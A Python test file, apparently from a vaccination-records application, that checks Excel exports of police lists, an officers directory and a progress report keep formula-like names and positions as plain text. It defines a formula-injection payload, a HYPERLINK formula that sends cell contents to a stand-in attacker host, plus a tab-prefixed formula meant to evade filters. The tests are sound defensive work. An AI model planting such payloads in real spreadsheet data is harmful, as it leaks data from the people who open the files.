"""Issue 12, finding 9: officers open the police lists, the officers directory and the progress
report in Excel. A value that looks like a formula (``=HYPERLINK(...)`` in a name or a position)
is written as a text cell, so the spreadsheet shows it and never evaluates it."""

from __future__ import annotations

from pathlib import Path

import openpyxl
from sqlalchemy import update

from tests.reports.generated import populate
from vaxtrust.app import officers, police_lists, reports
from vaxtrust.store.db import Store
from vaxtrust.store.scope import Actor
from vaxtrust.store.tables import FocalOfficer, VaccinationRecord

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
HIDDEN = "\t=1+1"   # a leading tab once hid a formula start from naive filters


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _assert_text(path: Path, *values: str) -> None:
    cells = _cells(path)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula cell"
    shown = {cell.value for cell in cells}
    for value in values:
        assert value in shown, f"{value!r} not kept as text in {path.name}"


def test_the_police_list_keeps_formula_like_names_as_text(
        published: Store, actors: dict[str, Actor], tmp_path: Path) -> None:
    with published.transaction() as session:
        session.execute(update(VaccinationRecord).where(VaccinationRecord.record_id == "R4")
                        .values(full_name=HOSTILE))
        session.execute(update(VaccinationRecord).where(VaccinationRecord.record_id == "R6")
                        .values(full_name=HIDDEN))
    (made,) = police_lists.export_lists(published, actors["hcm"], tmp_path, commune="26734")
    _assert_text(made.path, HOSTILE, HIDDEN)


def test_the_officers_export_and_the_report_keep_formula_like_text_as_text(
        published: Store, actors: dict[str, Actor], tmp_path: Path) -> None:
    populate(published)
    with published.transaction() as session:
        session.add(FocalOfficer(province_code="01", unit="cdc", full_name=HOSTILE,
                                 position=HIDDEN, updated_at="2026-01-01T00:00:00Z",
                                 updated_by="minh"))
    exported = tmp_path / "officers.xlsx"
    assert officers.export_officers(published, actors["minh"], exported) >= 1
    _assert_text(exported, HOSTILE, HIDDEN)
    report = reports.progress(published, actors["minh"], live=True)
    _assert_text(reports.write_progress(report, tmp_path / "progress.xlsx", "xlsx"), HOSTILE)
